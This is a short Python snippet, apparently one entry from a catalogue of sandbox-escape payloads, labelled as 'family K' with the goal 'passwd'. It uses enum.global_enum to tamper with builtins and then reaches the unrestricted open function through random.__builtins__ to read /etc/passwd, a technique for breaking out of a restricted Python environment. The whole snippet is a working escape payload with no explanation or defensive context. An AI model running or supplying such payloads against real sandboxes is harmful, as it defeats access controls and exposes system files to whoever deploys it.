# family: K (global_enum into builtins, then the real open)   goal: passwd
import enum, random
class B(enum.Enum):
    marker = 1
B.__module__ = "builtins"
enum.global_enum(B)
print(random.__builtins__["open"]("/etc/passwd").read())
